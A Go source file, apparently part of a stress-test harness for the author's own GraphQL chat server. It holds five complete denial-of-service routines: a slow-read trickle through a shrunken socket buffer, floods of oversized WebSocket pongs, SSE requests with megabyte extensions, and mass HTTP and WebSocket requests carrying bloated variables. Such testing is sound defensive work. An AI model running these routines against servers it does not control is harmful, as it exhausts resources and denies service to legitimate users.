//go:build linux

package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/gobwas/ws/wsutil"
)

// waiting are attempts that hold what others wait for, or that are small and become large while they wait or last.
var waiting = []attempt{
	{
		name: "an answer at a trickle", lasts: heavyLasts,
		sent: "one request for 45 MB, of which 128 KiB a second are read, while somebody else asks for a page twice a second",
		why:  "everybody's pages and streams waited for the room that it had, for two hours",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := fillLog(ctx, a)
			if err != nil {
				return err
			}
			reader := a.client(address(true, 230))
			defer reader.close()
			person, err := reader.connectPatiently(ctx, officeSession, "", "")
			if err != nil {
				return err
			}
			a.prepared()
			var all sync.WaitGroup
			all.Go(func() {
				query := operation(`{a:chatEntries(first:200){nodes{a:body b:body}} c:chatEntries(first:60){nodes{a:body}}}`, nil)
				a.trickle(ctx, c, string(c.raw(m.access, query, 0)))
			})
			for sleep(ctx, 500*time.Millisecond) {
				err := reader.ask(ctx, person.access, `{chatEntries(last:50){nodes{id body connection{data}}}}`, nil, nil)
				if err != nil && ctx.Err() == nil {
					a.people.harmed("a page: " + codeOf(err))
				}
			}
			all.Wait()
			return nil
		},
	},
	{
		name: "messages that ask for nothing", lasts: heavyLasts,
		sent: "on 64 sockets of 16 connections pongs of 900 KB, of empty arrays, one after the other",
		why:  "each is parsed, and was charged to nobody",
		attack: func(ctx context.Context, a *assault) error {
			c, members, err := a.joinMany(ctx, 16)
			if err != nil {
				return err
			}
			a.prepared()
			raw := []byte(`{"type":"pong","payload":[` + strings.Repeat("[],", 300_000) + `0]}`)
			var next atomic.Int64
			return a.holdSockets(ctx, a.n(64), func(_ int, s *socket) error {
				_ = s.conn.SetWriteDeadline(time.Time{})
				go func() {
					for wsutil.WriteClientText(s.conn, raw) == nil {
						a.tally(nil)
					}
				}()
				go func() { a.received.Add(s.drain(ctx)) }()
				return nil
			}, func(ctx context.Context) (*socket, error) {
				return c.socket(ctx, members[int(next.Add(1))%len(members)].access)
			})
		},
	},
	{
		name: "extensions of streams", lasts: heavyLasts,
		sent: "500 SSE streams whose request has extensions of 1 MB, and 500 with 2,100 objects in 15 KB of them",
		why:  "a stream kept them for as long as it lasted",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			request := func(extensions string) string {
				body := `{"query":"subscription{entryAdded{id}}","extensions":` + extensions + `}`
				return strings.Replace(string(a.attacker(0).raw("", body, 0)), "\r\n", "\r\nAccept: text/event-stream\r\n", 1)
			}
			requests := []string{request(`{"a":"` + strings.Repeat("x", 1_000_000) + `"}`), request(objects(15_000))}
			each(len(requests), func(i int) { _ = a.holdRequests(ctx, a.n(500), 1, requests[i]) })
			return nil
		},
	},
	{
		name: "values in small bodies", lasts: heavyLasts,
		sent: "480 requests at once of 11 KB, each another document, whose variables are 1,300 objects",
		why:  "they are sixty times as large while they wait for their turn",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			c, variables := a.attacker(0), objects(9_000)
			a.race(ctx, a.n(480), 1_000_000, func(i int) error {
				conn, err := c.dial(ctx, "http/1.1")
				if err != nil {
					return err
				}
				defer conn.Close()
				body := fmt.Sprintf(`{"query":"{session{%s}} #%d","variables":%s}`, strings.Repeat("__typename ", 170), i, variables)
				_ = conn.SetDeadline(time.Now().Add(requestTimeout))
				_, _ = io.WriteString(conn, strings.Replace(string(c.raw("", body, 0)), "\r\n", "\r\nConnection: close\r\n", 1))
				_, err = io.Copy(io.Discard, conn)
				return err
			})
			return nil
		},
	},
	{
		name: "values in small messages", lasts: heavyLasts,
		sent: "on each of 960 sockets of 16 connections operations of 15 KB, each another document, whose variables are 2,000 objects",
		why:  "the same by WebSocket",
		attack: func(ctx context.Context, a *assault) error {
			c, members, err := a.joinMany(ctx, 16)
			if err != nil {
				return err
			}
			a.prepared()
			variables := objects(14_000)
			var next atomic.Int64
			return a.holdSockets(ctx, a.n(960), func(i int, s *socket) error {
				go func() {
					for k := 0; ; k++ {
						body := fmt.Sprintf(`{"type":"subscribe","id":"%d","payload":{"query":"{session{%s}} #%d.%d","variables":%s}}`,
							k, strings.Repeat("__typename ", 100), i, k, variables)
						if wsutil.WriteClientText(s.conn, []byte(body)) != nil {
							return
						}
					}
				}()
				go func() { a.received.Add(s.drain(ctx)) }()
				return nil
			}, func(ctx context.Context) (*socket, error) {
				return c.socket(ctx, members[int(next.Add(1))%len(members)].access)
			})
		},
	},
}

// objects returns a JSON object of about n bytes, of objects with one member each.
func objects(n int) string {
	return `{"a":[` + strings.TrimSuffix(strings.Repeat(`{"":0},`, n/7), ",") + `]}`
}

// trickle sends a request and reads 64 KiB of the answer twice a second, through a small window.
func (a *assault) trickle(ctx context.Context, c *client, request string) {
	dialer := net.Dialer{Control: func(_, _ string, raw syscall.RawConn) error {
		return raw.Control(func(fd uintptr) {
			_ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 8<<10)
		})
	}}
	if ownNetwork() {
		dialer.LocalAddr = &net.TCPAddr{IP: c.address.AsSlice()}
	}
	conn, err := dialer.DialContext(ctx, "tcp", c.server.host)
	if err != nil {
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	if _, err := io.WriteString(conn, request); err != nil {
		return
	}
	for piece := make([]byte, 64<<10); ctx.Err() == nil; sleep(ctx, 500*time.Millisecond) {
		n, err := io.ReadFull(conn, piece)
		if a.received.Add(int64(n)); err != nil {
			return
		}
	}
}

// joinMany makes n connections of one address.
func (a *assault) joinMany(ctx context.Context, n int) (c *client, members []member, err error) {
	members = make([]member, n)
	for i := range members {
		if c, members[i], err = a.join(ctx, 0, "attack", ""); err != nil {
			return nil, nil, err
		}
	}
	return c, members, nil
}
